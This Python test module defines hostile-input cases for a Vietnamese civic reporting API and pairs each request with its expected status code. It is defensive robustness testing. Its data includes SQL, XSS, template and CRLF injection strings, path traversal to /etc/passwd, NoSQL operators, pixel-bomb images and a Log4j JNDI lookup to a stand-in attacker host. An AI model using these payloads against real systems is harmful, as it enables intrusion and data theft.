"""The hostile-input corpus, as data: every case says how to build its request and what the system must answer.

A case's request is a `Req` (tests/hostile/client.py); strings in its path and header values are formatted with
the run context, and any body may be a callable of the context. The context (built by the test module) holds:

  report(**changes)   a good Huế report with a unique reporter (phone) and `changes` applied (DROP removes a key)
  photo()             a fresh camera JPEG (EXIF capture time one hour before the system clock, a new seed each call)
  big_photo()         the same, about 0.4 MB (noise)
  A, A_token          a report dispatched to its lead agency (with its tracking token)
  <key>_photo_sha     the sha256 of the photo each of these reports was submitted with
  A_staff, A_leader   the lead agency's tokens for A; other_staff, other_leader: an agency of the same province
  other_pack_staff    an agency of another province
  P1…P6, P1_staff…    reports in progress (acknowledged), one per case that could change them
  PC, PC_token        a report in progress (the reporter may no longer cancel it)
  C, C_token          a report the reporter cancelled
  operator, admin     the centre's tokens; level: a rating level of the pack

Run `python -m tests.hostile.corpus` to print the corpus size by kind.
"""
from __future__ import annotations

import copy
import json
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from tests.hostile import media
from tests.hostile.client import BOUNDARY, Part, Req

PACK = "thua-thien-hue-2022"
DROP = object()
HEX64 = "5e0f" * 16
SUBMIT = "/api/v1/reports"


@dataclass
class Case:
    name: str
    kind: str
    req: Req
    status: int
    code: str | None = None            # the error code (None for a success)
    also: tuple = ()                   # other acceptable (status, code) answers, where the contract leaves room
    creates: int = 0                   # reports a correct answer stores
    dispatch: bool = False             # the stored report must reach "dispatched"
    shows: str | None = None           # the description the public and staff views must show
    target: str | None = None          # context key of a report a refused action must leave unchanged
    before: tuple = ()                 # (Req, status) sent first, in order
    check: Callable | None = None      # extra check(answers, ctx) → list of problems
    note: str = ""                     # "beyond the contract": expectations the brief does not spell out

    def accepted(self) -> list[tuple[int, str | None]]:
        return [(self.status, self.code), *self.also]


CASES: list[Case] = []


def case(*args, **kwargs) -> Case:
    made = Case(*args, **kwargs)
    CASES.append(made)
    return made


# ---- request builders ------------------------------------------------------------------------------------------------
def _apply(report: dict, changes: dict) -> dict:
    for path, value in changes.items():
        node, keys = report, [path] if path.startswith("__") else path.split("__")
        for key in keys[:-1]:
            node = node[key]
        if value is DROP:
            node.pop(keys[-1], None)
        else:
            node[keys[-1]] = copy.deepcopy(value)
    return report


def rep(**changes) -> Callable:
    """The report JSON (a callable of the context); `a__b=v` sets report["a"]["b"]."""
    return lambda ctx: _apply(ctx["report"](), changes)


def rep_text(transform: Callable[[str], str | bytes], **changes) -> Callable:
    """The report JSON text, transformed (to make malformed or hostile JSON)."""
    return lambda ctx: transform(json.dumps(_apply(ctx["report"](), changes), ensure_ascii=False))


def photo_part(ctx) -> bytes:
    return ctx["photo"]()


def report_part(body) -> Part:
    return Part("report", body, mime="application/json")


def media_part(data, filename="photo.jpg", mime="image/jpeg") -> Part:
    return Part("media", data, filename=filename, mime=mime)


def submit(report=None, files=(), headers=None, with_photo=True, **req) -> Req:
    parts = [report_part(report if report is not None else rep())]
    if with_photo:
        parts.append(media_part(photo_part))
    parts += list(files)
    return Req("POST", SUBMIT, parts=parts, headers=headers or {}, **req)


def refused(name, kind, report, status, code, **kw) -> Case:
    """A submission whose report part is refused (a fresh photo goes with it, so only the report is at fault)."""
    return case(name, kind, submit(report), status, code, **kw)


def valid(name, kind, description, note="", **changes) -> Case:
    """A weird but valid submission: 201, dispatched like any other, and shown as sent."""
    return case(name, kind, submit(rep(description=description, **changes)), 201, creates=1, dispatch=True,
                shows=description, note=note)


def media_case(name, data, status, code, filename="photo.jpg", mime="image/jpeg", with_photo=False, **kw) -> Case:
    return case(name, "media", submit(files=[media_part(data, filename, mime)], with_photo=with_photo), status, code,
                **kw)


def swap(old: str, new: str, encode: bool = False) -> Callable[[str], str | bytes]:
    """A transform of the report JSON text replacing `old` (which must be there) by `new`."""
    def transform(text: str):
        if old not in text:
            raise AssertionError(f"{old!r} not in the report JSON")
        text = text.replace(old, new)
        return text.encode() if encode else text
    return transform


def replace_description(raw: bytes) -> Callable:
    """The report JSON with its description's value replaced by raw bytes (already quoted if needed)."""
    def build(ctx):
        text = json.dumps(_apply(ctx["report"](), {"description": "@@D@@"}), ensure_ascii=False).encode()
        return text.replace(b'"@@D@@"', raw)
    return build


def with_field(raw: str) -> Callable:
    """The report JSON with an extra member `raw` (JSON text) spliced in first."""
    return rep_text(lambda text: "{" + raw + ", " + text[1:])


def nested(depth: int, open_="[", close="]", leaf="1") -> str:
    return open_ * depth + leaf + close * depth


INVALID, TYPES, INVISIBLE, WEIRD = "json", "types", "unicode-invisible", "unicode-valid"

# ---- json: malformed, wrong encoding, too deep, non-standard constants → 400 INVALID_JSON ---------------------------
refused("malformed: {not json", INVALID, "{not json", 400, "INVALID_JSON")
refused("malformed: empty report part", INVALID, "", 400, "INVALID_JSON")
refused("malformed: unterminated object", INVALID, rep_text(lambda t: t[:-1]), 400, "INVALID_JSON")
refused("malformed: single quotes", INVALID, rep_text(lambda t: t.replace('"', "'")), 400, "INVALID_JSON")
refused("malformed: trailing comma", INVALID, rep_text(lambda t: t[:-1] + ",}"), 400, "INVALID_JSON")
refused("malformed: trailing garbage", INVALID, rep_text(lambda t: t + " x"), 400, "INVALID_JSON")
refused("malformed: two objects", INVALID, rep_text(lambda t: t + t), 400, "INVALID_JSON")
refused("malformed: 20,000 unclosed [", INVALID, "[" * 20000, 400, "INVALID_JSON")
refused("invalid UTF-8: \\xff\\xfe in the description", INVALID, replace_description(b'"\xff\xfe \xc3\x28"'),
        400, "INVALID_JSON")
refused("invalid UTF-8: starts with continuation bytes", INVALID,
        lambda ctx: b"\x80\x81" + json.dumps(ctx["report"]()).encode(), 400, "INVALID_JSON")
refused("invalid UTF-8: overlong encoding of /", INVALID, replace_description(b'"\xc0\xaf\xc0\xaf etc"'),
        400, "INVALID_JSON")
refused("invalid UTF-8: encoded surrogate ED A0 80", INVALID, replace_description(b'"\xed\xa0\x80 x"'),
        400, "INVALID_JSON")
refused("invalid UTF-8: Latin-1 text", INVALID, replace_description('"Ổ gà đường Lê Lợi"'.encode("utf-16-le")),
        400, "INVALID_JSON")
refused("nested 3,000 arrays", INVALID, replace_description(nested(3000).encode()), 400, "INVALID_JSON")
refused("nested 3,000 objects", INVALID, replace_description(nested(3000, '{"a":', "}").encode()), 400,
        "INVALID_JSON")
refused("nested 33 levels in an extra field", INVALID, with_field('"x": ' + nested(33)), 400, "INVALID_JSON")
refused("nested 40 levels as the reporter", INVALID,
        lambda ctx: json.dumps(ctx["report"]()).replace('"reporter": {', '"reporter": {"n": ' + nested(40) + ", ", 1),
        400, "INVALID_JSON")
refused("NaN as lat", INVALID, rep_text(swap('"lat": 16.4637', '"lat": NaN')), 400, "INVALID_JSON")
refused("Infinity as lon", INVALID, rep_text(swap('"lon": 107.5909', '"lon": Infinity')), 400,
        "INVALID_JSON")
refused("-Infinity as lat", INVALID, rep_text(swap('"lat": 16.4637', '"lat": -Infinity')), 400,
        "INVALID_JSON")
refused("NaN in an extra field", INVALID, with_field('"x": NaN'), 400, "INVALID_JSON")
refused("5,000-digit integer as lat", INVALID, rep_text(swap('"lat": 16.4637', '"lat": ' + "7" * 5000)),
        400, "INVALID_JSON")
refused("5,000-digit integer in an extra field", INVALID, with_field('"x": ' + "9" * 5000), 400, "INVALID_JSON")
refused("1e400 as lat (overflows to infinity)", INVALID, rep_text(swap('"lat": 16.4637', '"lat": 1e400')),
        400, "INVALID_JSON", also=((422, "VALIDATION_FAILED"),), note="beyond the contract")
refused("JSON null as the report", INVALID, "null", 400, "INVALID_JSON", also=((422, "VALIDATION_FAILED"),))
refused("JSON array as the report", INVALID, lambda ctx: json.dumps([ctx["report"]()]), 400, "INVALID_JSON",
        also=((422, "VALIDATION_FAILED"),))
refused("JSON string as the report", INVALID, '"report"', 400, "INVALID_JSON", also=((422, "VALIDATION_FAILED"),))
refused("JSON number as the report", INVALID, "42", 400, "INVALID_JSON", also=((422, "VALIDATION_FAILED"),))
refused("lone surrogate escape \\ud800 in the description", INVALID, replace_description(b'"\\ud800 x"'), 400,
        "INVALID_JSON", also=((422, "VALIDATION_FAILED"),), note="beyond the contract")
case("JSON body: malformed", INVALID, Req(json=b"{not json"), 400, "INVALID_JSON")
case("JSON body: NaN", INVALID, Req(json=rep_text(swap('"lat": 16.4637', '"lat": NaN', encode=True))),
     400, "INVALID_JSON")
case("JSON body: nested 3,000 arrays", INVALID, Req(json=replace_description(nested(3000).encode())), 400,
     "INVALID_JSON")
case("JSON body: invalid UTF-8", INVALID, Req(json=replace_description(b'"\xff\xfe"')), 400, "INVALID_JSON")
case("JSON body: 5,000-digit integer", INVALID, Req(json=lambda ctx: with_field('"x": ' + "9" * 5000)(ctx).encode()),
     400, "INVALID_JSON")

# ---- types and values → 422 VALIDATION_FAILED -------------------------------------------------------------------------
V = (422, "VALIDATION_FAILED")
for name, changes in [
    ('urgent "yes"', {"urgent": "yes"}),
    ("urgent 1", {"urgent": 1}),
    ('urgent "true"', {"urgent": "true"}),
    ('keep_private "true"', {"keep_private": "true"}),
    ("keep_private 0", {"keep_private": 0}),
    ('lat as string "16.4"', {"location__lat": "16.4"}),
    ('lon as string "107.59"', {"location__lon": "107.59"}),
    ("lat as true", {"location__lat": True}),
    ("description as a number", {"description": 12345}),
    ("description as a list", {"description": ["Ổ gà", "lớn"]}),
    ("description null", {"description": None}),
    ("reporter as a string", {"reporter": "Nguyễn Văn An 0905123456"}),
    ("reporter as a list", {"reporter": ["Nguyễn Văn An"]}),
    ("pack as a number", {"pack": 2022}),
    ("pack missing", {"pack": DROP}),
    ("description missing", {"description": DROP}),
    ("unknown extra field", {"priority": "high"}),
    ("mass assignment: _id", {"_id": "PA-000000-AAAAAAAA"}),
    ("mass assignment: state published", {"state": "published"}),
    ("mass assignment: tracking_token_hash", {"tracking_token_hash": "0" * 64}),
    ("mass assignment: assigned_agencies", {"assigned_agencies": [{"id": "cong-an", "role": "lead"}]}),
    ("extra __proto__ field", {"__proto__": {"admin": True}}),
    ("extra field in reporter (role admin)", {"reporter__role": "admin"}),
    ("extra field in location", {"location__altitude": 12}),
    ("category not in the list", {"category": "bogus"}),
    ("category in capitals", {"category": "ROADS_TRAFFIC"}),
    ("channel not in the list", {"channel": "telegram"}),
    ("channel empty", {"channel": ""}),
    ("lat 91", {"location__lat": 91}),
    ("lat -90.0001", {"location__lat": -90.0001}),
    ("lon 181", {"location__lon": 181}),
    ("lon -180.5", {"location__lon": -180.5}),
    ("only lat", {"location__lon": DROP}),
    ("only lon", {"location__lat": DROP}),
    ("location source satellite", {"location__source": "satellite"}),
    ("location as a string", {"location": "16.4637,107.5909"}),
    ("description 5,001 characters", {"description": ("Ổ gà lớn " * 556)[:5001]}),
    ("phone with letters", {"reporter__phone": "09O5I23456"}),
    ("phone words", {"reporter__phone": "call me maybe"}),
    ("e-mail without @", {"reporter__email": "an.example.vn"}),
    ("e-mail only @", {"reporter__email": "@"}),
    ("citizen id with letters", {"reporter__citizen_id": "0790A1234567"}),
    ("reporter name 201 characters", {"reporter__name": "N" * 201}),
    ("location address 501 characters", {"location__address": "đ" * 501}),
    ("media_meta naive captured_at", {"media_meta": [{"filename": "photo.jpg", "captured_at": "2026-11-23T10:00:00"}]}),
    ("media_meta captured_at not a date", {"media_meta": [{"filename": "photo.jpg", "captured_at": "yesterday"}]}),
    ("media_meta 21 entries", {"media_meta": [{"filename": f"{i}.jpg"} for i in range(21)]}),
    ("media_meta not a list", {"media_meta": {"filename": "photo.jpg"}}),
]:
    refused(name, TYPES, rep(**changes), *V)
refused("description 5,001 characters made of 32 KB of emoji", TYPES, rep(description="🚧" * 5001), *V)

# ---- description only blank / invisible → 422 -------------------------------------------------------------------------
for name, text in [
    ("empty", ""),
    ("spaces, tabs and newlines", "  \t\n \r\n "),
    ("zero-width space U+200B", "\u200b"),
    ("word joiner U+2060", "\u2060\u2060"),
    ("BOM U+FEFF", "\ufeff"),
    ("NUL", "\x00"),
    ("control characters \\x01–\\x1f", "".join(chr(c) for c in range(1, 32))),
    ("soft hyphen U+00AD", "\u00ad\u00ad\u00ad"),
    ("LRM U+200E", "\u200e"),
    ("RLO U+202E", "\u202e"),
    ("a mix of invisible characters", " \u200b\u2060\ufeff\u00ad\u200e\u202e\x00\x1f "),
    ("ZWNJ and ZWJ U+200C U+200D", "\u200c\u200d"),
    ("ideographic space and NBSP", "\u3000\u00a0"),
    ("bidi isolates U+2066 U+2069", "\u2066\u2069"),
    ("DEL U+007F", "\x7f"),
]:
    refused(f"description only: {name}", INVISIBLE, rep(description=text), *V,
            note="beyond the contract" if name in ("ZWNJ and ZWJ U+200C U+200D", "bidi isolates U+2066 U+2069",
                                                   "DEL U+007F") else "")

# ---- weird but valid text → 201, dispatched, shown as sent ------------------------------------------------------------
valid("Vietnamese NFC", WEIRD, "Đèn đường hỏng ở ngõ 12 Hùng Vương, tối om cả đoạn từ 18 giờ")
valid("Vietnamese with combining marks (NFD)", WEIRD,
      "Đe\u0300n đươ\u0300ng ho\u0309ng ơ\u0309 ngo\u0303 14 Lê Lơ\u0323i, tô\u0301i om")
valid("emoji", WEIRD, "Cây đổ 🌳🚧 chắn ngang đường Trần Hưng Đạo 😱")
valid("emoji ZWJ sequence", WEIRD, "Gia đình 👨\u200d👩\u200d👧 bị kẹt vì ngập nước 🌊 đường Bà Triệu")
valid("RTL Arabic and Hebrew", WEIRD, "إنارة الشارع معطلة — שלום — đèn đường hỏng ở Nguyễn Huệ")
valid("RLO override inside text", WEIRD, "Ổ gà \u202eđảo ngược\u202c giữa đường Hà Nội")
valid("control character inside: \\x1edt:2020-…", WEIRD, "Ổ gà\x1edt:2020-01-01T00:00:00.000000")
valid("control character prefix \\x1edt:x", WEIRD, "\x1edt:x Cống thoát nước bị tắc ở Phan Đình Phùng")
valid("NUL inside text", WEIRD, "Rác thải\x00 chất đống ven sông Hương")
valid("tabs and newlines inside", WEIRD, "Dòng 1: ổ gà\nDòng 2: nước đọng\r\n\tDòng 3: nguy hiểm")
valid("zero-width space inside text", WEIRD, "Ổ\u200bgà lớn trên đường Nguyễn Trãi")
valid("Zalgo", WEIRD, "Ơ̷̢̂̉ ̶g̴̡à̸ ̷l̵ớ̴n̶̨ ở đường Lý Thường Kiệt")
valid("astral and CJK", WEIRD, "𝕆 𝕘𝕒 𝔩𝔬𝔫 — 𠀀 đường Điện Biên Phủ")
valid("noncharacter and private use inside", WEIRD, "Đèn \uffff hỏng \ue000 ở ngõ 5 Đống Đa")
case("U+FFFD inside a multipart report part", WEIRD, submit(rep(description="Biển báo mờ \ufffd\ufffd ở Lê Lợi")),
     400, "INVALID_JSON", note="werkzeug decodes form fields with errors=replace: U+FFFD is where invalid UTF-8 was")
valid("description exactly 5,000 characters", WEIRD, ("Ổ gà lớn " * 556)[:4999] + "!")
valid("SQL injection text", "injection", "'; DROP TABLE reports; -- ổ gà đường Lê Duẩn")
valid("SQL tautology text", "injection", "1' OR '1'='1 — cống vỡ đường Ngô Quyền")
valid("HTML script text", "injection", "<script>alert('xss')</script> Rác thải ven sông An Cựu")
valid("HTML img onerror text", "injection", '<img src=x onerror="alert(1)"> cây đổ đường Đống Đa')
valid("javascript: URL text", "injection", "javascript:alert(document.cookie) đèn hỏng đường Bến Nghé")
valid("template injection text", "injection",
      "{{ 7*7 }} {% for x in range(10**9) %}{% endfor %} {{ config }} ổ gà đường Hùng Vương")
valid("log4j lookup text", "injection", "${jndi:ldap://evil.example/a} cống vỡ đường Trường Chinh")
valid("format string text", "injection", "%s%s%s%n {0} {__class__} %(x)s ngập nước đường Nguyễn Huệ")
valid("path traversal text", "injection", "../../../../etc/passwd ống nước vỡ ở Kim Long")
valid("CRLF header injection text", "injection", "Đèn hỏng\r\nX-Injected: 1\r\n\r\n<h1>x</h1>")
valid("literal {\"$gt\": \"\"} as the description", "operator-strings", '{"$gt": ""}')
valid("$where text", "operator-strings", "$where: function() { return true } — rác thải đường Lê Lợi")
valid("weird reporter name (RTL, emoji, control char)", WEIRD, "Cống vỡ ở đường Hai Bà Trưng",
      reporter__name="\u202eNguyễn 🙂 An\x1e")

# ---- operator-like values (NoSQL injection) → 422 -----------------------------------------------------------------------
for name, changes in [
    ('pack {"$ne": null}', {"pack": {"$ne": None}}),
    ('description {"$gt": ""}', {"description": {"$gt": ""}}),
    ('reporter {"$ne": null}', {"reporter": {"$ne": None}}),
    ('reporter.phone {"$regex": ".*"}', {"reporter__phone": {"$regex": ".*"}}),
    ('category {"$in": [...]}', {"category": {"$in": ["roads_traffic", "health"]}}),
    ('location.lat {"$gt": 0}', {"location__lat": {"$gt": 0}}),
    ('media_meta [{"$where": "1"}]', {"media_meta": [{"$where": "1"}]}),
]:
    refused(name, "operator-strings", rep(**changes), *V)

# ---- packs → 422 UNKNOWN_PACK -------------------------------------------------------------------------------------------
for name, pack in [
    ("unknown pack", "ha-noi-2030"),
    ("pack path traversal ../../etc/passwd", "../../etc/passwd"),
    ("pack path traversal to another pack", "thua-thien-hue-2022/../soc-trang-2022"),
    ("pack in capitals", "THUA-THIEN-HUE-2022"),
    ("pack is the rules' schema folder", "schema"),
    ("pack is the word lists folder", "wordlists"),
    ("pack .", "."),
    ("pack with a NUL", "thua-thien-hue-2022\x00"),
]:
    refused(name, "pack", rep(pack=pack), 422, "UNKNOWN_PACK",
            also=((422, "VALIDATION_FAILED"),) if "\x00" in pack or pack == "." else ())

# ---- content types and multipart framing ----------------------------------------------------------------------------------
CT = "content-type"
case("text/plain body", CT, Req(raw=lambda ctx: json.dumps(ctx["report"]()).encode(), content_type="text/plain"),
     415, "UNSUPPORTED_CONTENT_TYPE")
case("application/xml body", CT, Req(raw=b"<report><pack>thua-thien-hue-2022</pack></report>",
                                     content_type="application/xml"), 415, "UNSUPPORTED_CONTENT_TYPE")
case("no body, no content type", CT, Req(content_type=""), 415, "UNSUPPORTED_CONTENT_TYPE")
case("form-urlencoded body", CT, Req(raw=b"report=%7B%7D", content_type="application/x-www-form-urlencoded"), 415,
     "UNSUPPORTED_CONTENT_TYPE")
case("multipart/mixed", CT, Req(parts=[report_part(rep())], content_type=f"multipart/mixed; boundary={BOUNDARY}"),
     415, "UNSUPPORTED_CONTENT_TYPE")
case("multipart/form-data without a boundary", CT, Req(parts=[report_part(rep())], content_type="multipart/form-data"),
     400, "INVALID_MULTIPART")
case("multipart/form-data with a garbage body", CT,
     Req(raw=media.random_bytes(2048, seed=21), content_type=f"multipart/form-data; boundary={BOUNDARY}"),
     400, "INVALID_MULTIPART")
case("multipart/form-data cut off inside the report part", CT,
     Req(raw=lambda ctx: f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="report"\r\n\r\n{{"pack": "thu'
         .encode(), content_type=f"multipart/form-data; boundary={BOUNDARY}"),
     400, "INVALID_MULTIPART", also=((400, "MISSING_REPORT_PART"),), note="beyond the contract")
case("multipart without a report part", CT, Req(parts=[media_part(photo_part)]), 400, "MISSING_REPORT_PART")
case("multipart with no parts at all", CT, Req(raw=f"--{BOUNDARY}--\r\n".encode(),
                                               content_type=f"multipart/form-data; boundary={BOUNDARY}"),
     400, "MISSING_REPORT_PART", also=((400, "INVALID_MULTIPART"),))   # RFC 2046 wants at least one part
case("multipart with the part named Report", CT, Req(parts=[Part("Report", rep(), mime="application/json"),
                                                           media_part(photo_part)]), 400, "MISSING_REPORT_PART")
case("application/json with a multipart body", CT,
     Req(parts=[report_part(rep())], content_type="application/json"), 400, "INVALID_JSON")
case("report sent as a file part", CT,
     Req(parts=[Part("report", rep(description="Cống vỡ đường Ngô Đức Kế (report as a file part)"),
                     filename="report.json", mime="application/json"), media_part(photo_part)]),
     201, creates=1, dispatch=True, shows="Cống vỡ đường Ngô Đức Kế (report as a file part)")
case("JSON body without media (needs supplement later)", CT,
     Req(json=rep(description="Nước ngập sâu đường Bà Triệu (JSON body)")), 201, creates=1,
     shows="Nước ngập sâu đường Bà Triệu (JSON body)")

# ---- media: not a supported type → 415, empty → 400, damaged → 422, too big → 422 -----------------------------------------
for name, builder, filename, mime in [
    ("GIF", media.gif, "a.gif", "image/gif"),
    ("BMP", media.bmp, "a.bmp", "image/bmp"),
    ("TIFF", media.tiff, "a.tif", "image/tiff"),
    ("WEBP", media.webp, "a.webp", "image/webp"),
    ("ICO", media.ico, "a.ico", "image/x-icon"),
    ("PDF", media.pdf, "a.pdf", "application/pdf"),
    ("ZIP holding a JPEG", media.zip_archive, "photo.zip", "application/zip"),
    ("HTML named photo.jpg", media.html, "photo.jpg", "image/jpeg"),
    ("SVG with a script", media.svg, "a.svg", "image/svg+xml"),
    ("EXE (MZ/PE) named photo.jpg", media.exe, "photo.jpg", "image/jpeg"),
    ("plain text", media.plain_text, "note.txt", "text/plain"),
    ("random bytes", media.random_blob, "photo.jpg", "image/jpeg"),
]:
    media_case(f"unsupported: {name}", lambda ctx, b=builder: b(), 415, "UNSUPPORTED_MEDIA", filename, mime)
media_case("empty file", b"", 400, "EMPTY_UPLOAD")
media_case("empty file after a good photo", b"", 400, "EMPTY_UPLOAD", with_photo=True)
for name, builder in [
    ("truncated JPEG (first half)", media.truncated_jpeg),
    ("FF D8 FF + random bytes", media.jpeg_magic_then_random),
    ("JPEG SOI marker only", media.jpeg_soi_only),
    ("PNG signature + garbage", media.png_magic_then_garbage),
    ("PNG with a corrupt IDAT CRC", media.png_bad_idat_crc),
    ("PNG with a corrupt zlib stream", media.png_bad_zlib),
    ("PNG without IDAT", media.png_no_idat),
    ("truncated PNG", media.png_truncated),
    ("truncated MP4", media.truncated_mp4),
    ("MP4 box size past the end", media.mp4_box_overrun),
    ("ftyp header + garbage", media.ftyp_then_garbage),
    ("ID3 header + garbage", media.id3_then_garbage),
    ("RIFF/WAVE header + garbage", media.wav_then_garbage),
    ("OggS + garbage", media.ogg_then_garbage),
]:
    media_case(f"damaged: {name}", lambda ctx, b=builder: b(), 422, "INVALID_MEDIA",
               note="beyond the contract" if "WAVE" in name or "Ogg" in name or "SOI" in name or "without" in name
               or "truncated PNG" in name else "")
media_case("damaged: truncated JPEG after a good photo (nothing kept)", lambda ctx: media.truncated_jpeg(), 422,
           "INVALID_MEDIA", with_photo=True)
media_case("pixel bomb: 1-bit PNG 30000×30000", lambda ctx: media.png_bomb_1bit_30000(), 422, "MEDIA_TOO_LARGE")
media_case("pixel bomb: PNG 15000×15000", lambda ctx: media.png_bomb_15000(), 422, "MEDIA_TOO_LARGE")
media_case("pixel bomb: JPEG SOF claims 65000×65000", lambda ctx: media.jpeg_sof_claims(), 422, "MEDIA_TOO_LARGE")
media_case("pixel bomb: PNG IHDR claims 2^31-1 squared", lambda ctx: media.png_header_claims_huge(), 422,
           "MEDIA_TOO_LARGE", also=((422, "INVALID_MEDIA"),), note="beyond the contract")
media_case("one file over the per-file limit (1.2 MB, limit 1 MB)", lambda ctx: media.padded_jpeg(1_250_000), 422,
           "MEDIA_TOO_LARGE")
case("valid: photo named ../../../etc/passwd", "media",
     submit(rep(description="Ống nước vỡ đường Đặng Thái Thân (odd filename)"), with_photo=False,
            files=[media_part(photo_part, "../../../etc/passwd", "image/jpeg")]),
     201, creates=1, dispatch=True, shows="Ống nước vỡ đường Đặng Thái Thân (odd filename)")
case("valid: photo declared as application/x-msdownload", "media",
     submit(rep(description="Rác thải ùn ứ đường Chi Lăng (lying content type)"), with_photo=False,
            files=[media_part(photo_part, "photo.exe", "application/x-msdownload")]),
     201, creates=1, dispatch=True, shows="Rác thải ùn ứ đường Chi Lăng (lying content type)")
case("valid: photo plus a PNG", "media",
     submit(rep(description="Cây xanh gãy cành đường Lê Lợi (JPEG + PNG)"),
            files=[media_part(lambda ctx: media.small_png(12), "b.png", "image/png")]),
     201, creates=1, dispatch=True, shows="Cây xanh gãy cành đường Lê Lợi (JPEG + PNG)")

# ---- size and count limits (the corpus runs with PAHT_MAX_REQUEST_MB=2, PAHT_MAX_UPLOAD_MB=1) ---------------------------
LIM = "limits"
refused("report part over 64 KB (extra field)", LIM, rep_text(lambda t: '{"pad": "' + "x" * 70_000 + '", ' + t[1:]),
        413, "PAYLOAD_TOO_LARGE")
refused("report part over 64 KB (description of 70,000 characters)", LIM, rep(description="đ" * 70_000),
        413, "PAYLOAD_TOO_LARGE")
case("JSON body over 64 KB", LIM, Req(json=rep(description="x" * 70_000)), 413, "PAYLOAD_TOO_LARGE")
case("21 media parts", LIM, submit(with_photo=False, files=[media_part(lambda ctx, i=i: media.small_jpeg(30 + i),
                                                                       f"{i}.jpg") for i in range(21)]),
     413, "PAYLOAD_TOO_LARGE")
case("request over 2 MB (three files of 0.8 MB)", LIM,
     submit(files=[media_part(lambda ctx, i=i: media.padded_jpeg(800_000, seed=40 + i), f"{i}.jpg") for i in range(3)]),
     413, "PAYLOAD_TOO_LARGE")
case("request over 2 MB sent chunked (no Content-Length)", LIM,
     submit(files=[media_part(lambda ctx, i=i: media.padded_jpeg(800_000, seed=50 + i), f"{i}.jpg") for i in range(3)],
            chunked=True),
     413, "PAYLOAD_TOO_LARGE", note="beyond the contract: chunked framing")
case("Content-Length claims 5 GB", LIM, submit(declared_length=5 * 1024 ** 3, timeout=8), 413, "PAYLOAD_TOO_LARGE")
for number in range(1, 6):   # werkzeug's form buffer must not turn an ordinary photo into a 413
    case(f"valid: an ordinary-size photo (~0.4 MB) #{number}", LIM,
         submit(rep(description=f"Sụt lún mặt đường Điện Biên Phủ, ảnh cỡ thường #{number}"), with_photo=False,
                files=[media_part(lambda ctx: ctx["big_photo"]())]),
         201, creates=1, dispatch=True, shows=f"Sụt lún mặt đường Điện Biên Phủ, ảnh cỡ thường #{number}")
case("exactly 20 media parts", LIM,
     submit(rep(description="Ngập nước nhiều điểm đường Nguyễn Sinh Cung (20 photos)"), with_photo=False,
            files=[media_part(photo_part, f"{i}.jpg") for i in range(20)]),
     201, creates=1, dispatch=True, shows="Ngập nước nhiều điểm đường Nguyễn Sinh Cung (20 photos)")


# ---- idempotency ------------------------------------------------------------------------------------------------------------
def same_id(answers, ctx) -> list[str]:
    ids = [a.json().get("id") for a in answers if a.status == 201]
    return [] if len(ids) == len(answers) and len(set(ids)) == 1 else [f"ids differ or missing: {ids}"]


case("same key, same multipart body twice", "idempotency",
     submit(rep(description="Đèn tín hiệu hỏng ngã tư Lê Lợi (idempotent)"), headers={"Idempotency-Key": "hostile-k1"},
            repeat=2),
     201, creates=1, dispatch=True, shows="Đèn tín hiệu hỏng ngã tư Lê Lợi (idempotent)", check=same_id)
case("same key, same JSON body twice", "idempotency",
     Req(json=rep(description="Vỉa hè sụt lún đường Hà Nội (idempotent JSON)"),
         headers={"Idempotency-Key": "hostile-k2"}, repeat=2),
     201, creates=1, shows="Vỉa hè sụt lún đường Hà Nội (idempotent JSON)", check=same_id)
case("same key, different body", "idempotency",
     submit(rep(description="Cống hở nắp đường Phạm Văn Đồng (second body)"), headers={"Idempotency-Key": "hostile-k3"}),
     422, "IDEMPOTENCY_CONFLICT", creates=1,
     before=((submit(rep(description="Cống hở nắp đường Phạm Văn Đồng"), headers={"Idempotency-Key": "hostile-k3"}),
              201),))

# ---- public feed query ----------------------------------------------------------------------------------------------------
for value in ["%C2%B2", "-1", "abc", "99999999999999999999", "0", "201", "1.5", "%00", "1e2", "%EF%BC%95"]:
    case(f"feed limit={value}", "query", Req("GET", f"/api/v1/feed?limit={value}"), *V,
         note="beyond the contract" if value in ("1e2", "%EF%BC%95", "%00", "1.5") else "")
for value in ["1", "200"]:
    case(f"feed limit={value} (valid)", "query", Req("GET", f"/api/v1/feed?limit={value}"), 200)
case('feed pack={"$ne": null}', "operator-strings", Req("GET", "/api/v1/feed?pack=%7B%22%24ne%22%3Anull%7D"), 200,
     also=((422, "UNKNOWN_PACK"),))

# ---- report ids -----------------------------------------------------------------------------------------------------------
NF = (404, "NOT_FOUND")
for name, rid in [
    ("..%2F..%2Fetc%2Fpasswd", "..%2F..%2Fetc%2Fpasswd"),
    ('{"$gt": ""} encoded', "%7B%22%24gt%22%3A%22%22%7D"),
    ("PA-000000-XXXX", "PA-000000-XXXX"),
    ("5,000 characters", "PA-" + "9" * 4997),
    ("%00", "%00"),
    ("%FF (invalid UTF-8)", "%FF%FE"),
    ("SQL tautology", "PA-x%27%20OR%20%271%27%3D%271"),
    ("Vietnamese letter", "%E1%BB%94"),
    ("null", "null"),
    ("a space", "%20"),
]:
    case(f"public report id {name}", "ids", Req("GET", f"/api/v1/reports/{rid}"), *NF,
         also=((404, "ROUTE_NOT_FOUND"),) if "%2F" in rid else ())
for name, rid in [("PA-000000-XXXX", "PA-000000-XXXX"), ('{"$gt": ""} encoded', "%7B%22%24gt%22%3A%22%22%7D"),
                  ("%00", "%00"), ("5,000 characters", "PA-" + "9" * 4997)]:
    case(f"staff report id {name}", "ids", Req("GET", f"/api/v1/staff/reports/{rid}",
                                               headers={"Authorization": "Bearer {operator}"}), *NF)
case("cancel an unknown report", "ids", Req("POST", "/api/v1/reports/PA-000000-XXXX/cancel", json={},
                                            headers={"X-Tracking-Token": "{A_token}"}), *NF)
case("staff action on an unknown report", "ids",
     Req("POST", "/api/v1/staff/reports/PA-000000-XXXX/acknowledge", json={},
         headers={"Authorization": "Bearer {operator}"}), *NF)

# ---- media hashes ---------------------------------------------------------------------------------------------------------
H = "hashes"
for name, sha in [("deadbeef", "deadbeef"), ("unknown 64-hex hash", HEX64), ("the reporter's own photo", "{A_photo_sha}"),
                  ("%00", "%00"), ("5,000 hex characters", "ab" * 2500), ("..%2Fx", "..%2Fx")]:
    case(f"result photo {name}", H, Req("GET", "/api/v1/reports/{A}/result-photos/" + sha), *NF,
         also=((404, "ROUTE_NOT_FOUND"),) if "%2F" in sha else ())
case("result photo ../x (raw path)", H, Req("GET", "/api/v1/reports/{A}/result-photos/../x"), *NF,
     also=((404, "ROUTE_NOT_FOUND"),))
